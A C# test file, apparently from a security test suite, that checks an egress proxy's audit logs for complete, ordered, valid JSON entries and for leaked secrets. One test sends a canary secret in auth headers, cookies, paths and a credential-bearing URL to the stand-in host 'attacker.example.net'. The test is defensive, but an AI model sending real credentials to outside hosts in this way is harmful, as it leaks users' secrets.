using System.Text;
using System.Text.Json;
using LlmOpsSecure.Attacks.Audit;

namespace LlmOpsSecure.Attacks.Egress;

/// <summary>What the logs of gate and Squid must say of everything that was tried before, and never say.</summary>
internal static class TrailAttacks
{
    private const string Log = "egress proxy: log";
    private const string Policy = "audit-logs-reach-a-workspace";
    private const string Secret = "s3cr3t-canary";
    private const int Tunnels = 20;

    public static IReadOnlyList<Attack<EgressWorld>> All { get; } =
    [
        new("every tunnel is in the trail once, in order, from the sandbox by its request to the exit", Log, Policy, $"{Tunnels} of {Tunnels}, in order, for assistants automation", JoinedAsync),
        new("secrets in headers, credentials, paths, queries and tunnels are not in the logs", Log, Policy, "not there", SecretsAsync),
        new("every line of all these tests is there: the numbers of each source have no gap", Log, Policy, "all, in order", NumbersAsync),
        new("every line of the logs is one JSON object", Log, Policy, "all", LinesAsync),
    ];

    /// <summary>The lines of a log that are whole.</summary>
    public static List<JsonElement> Entries(string file) => [.. File.ReadAllLines(file).Select(Parse).OfType<JsonElement>()];

    private static async Task<string> JoinedAsync(EgressWorld world)
    {
        var proxy = world.Proxies["search"];
        var (squid, gate) = (Entries(proxy.AccessLog).Count, Entries(proxy.GateLog).Count);
        var ids = Enumerable.Range(0, Tunnels).Select(number => $"request-{number}").ToList();
        foreach (var id in ids)
        {
            await new SandboxCaller(world, "search-1").TunnelAsync("pages.docs.example.com:443", headers: $"X-Request-Id: {id}\r\n");
        }

        await Task.Delay(500); // the last exit ends after its tunnel
        var requests = Entries(proxy.AccessLog).Skip(squid).ToList();
        var connections = Entries(proxy.GateLog).Skip(gate).ToList();
        var joined = requests.Count(request =>
            connections.Count(one => one.TryGetProperty("sandbox", out var from) && from.GetString() == request.GetProperty("sandbox").GetString() && one.GetProperty("port").GetInt32() == request.GetProperty("port").GetInt32()) == 1
            && connections.Count(one => one.TryGetProperty("exit", out var exit) && exit.GetString() == request.GetProperty("exit").GetString() && one.GetProperty("name").GetString() == "pages.docs.example.com") == 1);
        var order = requests.Select(request => request.GetProperty("request").GetString()).SequenceEqual(ids) ? "in order" : "not in order";
        return $"{joined} of {requests.Count}, {order}, for {string.Join(" and ", requests.Select(request => request.GetProperty("tenants").GetString()).Distinct(StringComparer.Ordinal))}";
    }

    private static async Task<string> SecretsAsync(EgressWorld world)
    {
        var caller = new SandboxCaller(world, "search-1");
        var headers = $"Proxy-Authorization: Basic {Convert.ToBase64String(Encoding.ASCII.GetBytes($"a:{Secret}"))}\r\nAuthorization: Bearer {Secret}\r\nCookie: a={Secret}\r\n";
        await caller.SendAsync($"GET http://api.search.example.com/{Secret}?key={Secret} HTTP/1.1\r\nHost: api.search.example.com\r\n{headers}\r\n");
        await caller.SendAsync($"GET http://user:{Secret}@attacker.example.net/{Secret} HTTP/1.1\r\nHost: a\r\n{headers}\r\n");
        await caller.SendAsync($"POST /{Secret} HTTP/1.1\r\nHost: a\r\nContent-Length: {Secret.Length}\r\n\r\n{Secret}");
        await caller.TunnelAsync("api.search.example.com:443", path: $"/{Secret}", headers: headers);
        await caller.InsideAsync("api.search.example.com:443", Encoding.ASCII.GetBytes($"{Secret}\r\n"));
        var leaks = new[] { Secret, Convert.ToBase64String(Encoding.ASCII.GetBytes($"a:{Secret}")) };
        var lines = world.Proxies.Values.SelectMany(proxy => proxy.Logs).SelectMany(File.ReadAllLines).Where(line => leaks.Any(leak => line.Contains(leak, StringComparison.Ordinal))).ToList();
        return lines.Count == 0 ? "not there" : string.Join('\n', lines);
    }

    // Squid, the gate, and each of its exits count by themselves.
    private static Task<string> NumbersAsync(EgressWorld world)
    {
        var sources = world.Proxies.Values.SelectMany(proxy => proxy.Logs).SelectMany(file => Entries(file).GroupBy(line => line.TryGetProperty("entry", out var entry) ? entry.GetString() : "", StringComparer.Ordinal));
        return Task.FromResult(string.Join(" / ", sources.Select(source => LineNumbers.Say(source)).Distinct(StringComparer.Ordinal)));
    }

    private static Task<string> LinesAsync(EgressWorld world)
    {
        var broken = world.Proxies.Values.SelectMany(proxy => proxy.Logs).SelectMany(File.ReadAllLines).Where(line => Parse(line) is not { ValueKind: JsonValueKind.Object }).ToList();
        return Task.FromResult(broken.Count == 0 ? "all" : string.Join('\n', broken));
    }

    private static JsonElement? Parse(string line)
    {
        try
        {
            using var json = JsonDocument.Parse(line);
            return json.RootElement.Clone();
        }
        catch (JsonException)
        {
            return null;
        }
    }
}
